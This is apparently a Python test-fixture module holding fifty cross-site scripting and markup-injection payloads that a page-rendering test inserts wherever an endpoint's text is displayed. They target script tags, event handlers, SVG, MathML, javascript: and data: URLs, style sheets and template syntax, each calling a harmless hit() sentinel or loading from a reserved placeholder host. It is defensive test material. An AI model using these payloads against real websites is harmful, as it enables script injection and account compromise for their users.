"""Fifty texts that an endpoint may write in the hope that a page runs or loads them. `hit()` is what must never be called.

They aim at elements, attributes, the style sheet, the policy's own tag, SVG, MathML, templates, encodings and URLs; each test of a
page puts all of them wherever an endpoint's words are shown.
"""

from __future__ import annotations

HOST = "https://payload.invalid"
"""Where a payload that loads something would load it from; the test refuses and records every request."""

PAYLOADS = (
    "<script>hit()</script>",
    '"><script>hit()</script>',
    "'><script>hit()</script>",
    "</script><script>hit()</script>",
    "</title><script>hit()</script>",
    "</style><script>hit()</script>",
    "</pre><script>hit()</script>",
    "</textarea><script>hit()</script>",
    "--><script>hit()</script>",
    "]]><script>hit()</script>",
    f"<script src={HOST}/a.js></script>",
    f'<script type=module>import "{HOST}/b.js"; hit()</script>',
    "<script nonce=00000000000000000000000000000000>hit()</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<SCRIPT\n>hit()</SCRIPT\n>",
    "<script\x00>hit()</script>",
    "<img src=x onerror=hit()>",
    '" onerror="hit()" src="x',
    "' autofocus onfocus='hit()' tabindex=1 x='",
    f"<img src={HOST}/c.png onload=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=hit()>",
    '<svg><use href="data:image/svg+xml,<svg id=a xmlns=http://www.w3.org/2000/svg><script>hit()</script></svg>#a"/></svg>',
    "<svg><foreignObject><body onload=hit()></foreignObject></svg>",
    "<svg><a xlink:href=javascript:hit()><text>go</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    '<math href="javascript:hit()">go</math>',
    "<body onload=hit()>",
    "<details open ontoggle=hit()>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()></audio>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()></select>",
    "<marquee onstart=hit()>go</marquee>",
    '<a href="javascript:hit()">go</a>',
    "javascript:hit()",
    "java\tscript:hit()",
    "data:text/html,<script>hit()</script>",
    "<iframe src=javascript:hit()></iframe>",
    '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
    f"<iframe src={HOST}/d></iframe>",
    "<object data=javascript:hit()></object>",
    f"<embed src={HOST}/e.swf>",
    f"<link rel=stylesheet href={HOST}/f.css>",
    f"<style>@import '{HOST}/g.css'; body{{background:url({HOST}/h.png)}}</style>",
    f'<div style="background:url({HOST}/i.png)">go</div>',
    f"<base href={HOST}/><form action={HOST}/j><button autofocus>go</button></form>",
    "{{ hit() }}{% for a in ().__class__.__mro__ %}{{ a }}{% endfor %}${hit()}<%= hit() %>\u202e<\u200bscript>hit()</script>",
)
